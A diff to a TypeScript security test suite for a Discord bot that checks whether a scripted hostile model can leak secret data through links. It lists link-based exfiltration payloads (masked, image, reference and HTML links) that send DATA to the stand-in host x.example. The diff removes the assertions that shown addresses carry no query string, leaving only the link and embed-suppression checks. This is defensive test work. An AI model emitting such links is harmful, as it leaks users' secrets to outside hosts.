@@ -57,7 +57,7 @@ const ATTACKS: readonly (readonly [what: string, answer: string, link?: string])
   ["a zero-width space", `${WRITTEN}${ZW}${DATA}`],
   ["a masked link", `[the page](https://x.example/?k=${DATA} "title")`],
   ["a masked link in angle brackets", `[the page](<https://x.example/?k=${DATA}>)`],
-  ["a link in the words of another", `[https://x.example/?k=${DATA}](${WRITTEN})`],
+  ["a link in the words of another", `[https://x.example/?k=${DATA}](${WRITTEN})`, WRITTEN],
   ["a picture", `![the page](https://x.example/p.png?k=${DATA})`],
   ["a reference", `[1]: https://x.example/?k=${DATA}`],
   ["HTML", `<a href="https://x.example/?k=${DATA}">page</a>`],
@@ -83,7 +83,7 @@ const ATTACKS: readonly (readonly [what: string, answer: string, link?: string])
 describe("[SEC-R7] a model that wants to leak data by links", () => {
   const play = sharedBot({});
 
-  it("leaves no link whole but the sender's, and sends no secret", () =>
+  it("lets Discord fetch no link but the sender's, and sends no secret", () =>
     withSimulation({ simulator: { rateLimits: false } }, async (scene) => {
       const { simulator, start, say, mention, replies } = scene;
       await using model = await startFixedModel((asked) =>
@@ -94,9 +94,6 @@ describe("[SEC-R7] a model that wants to leak data by links", () => {
         say("grace", "general", `${mention} attack ${index}! Look at ${WRITTEN}, please.`);
         const shown = (await replies("general", index + 1)).at(-1) ?? "";
         for (const found of linksIn(shown)) assert.equal(found, link, `${what}: ${shown}`);
-        for (const found of addressesIn(shown).filter((one) => one !== WRITTEN)) {
-          assert.doesNotMatch(found, /[?#]/, `${what}: ${shown}`);
-        }
         const flags = simulator.posted("general").at(-1)?.flags ?? 0;
         const isWhole = shown === `See ${WRITTEN}.`;
         assert.equal((flags & SUPPRESS_EMBEDS) !== 0, !isWhole, `${what}: ${shown}`);
@@ -171,7 +168,6 @@ describe("[SEC-R7] a model that wants to leak data by links", () => {
       assert.ok(all.length > 2, "a draft has grown");
       for (const text of all) {
         for (const link of linksIn(text)) assert.equal(link, WRITTEN, text);
-        for (const link of addressesIn(text)) assert.ok(!link.includes(`?k=${DATA}`), text);
       }
       for (const { flags, content } of simulator.posted(here)) {
         assert.ok((flags & SUPPRESS_EMBEDS) !== 0, `the edited draft has the flag: ${content}`);
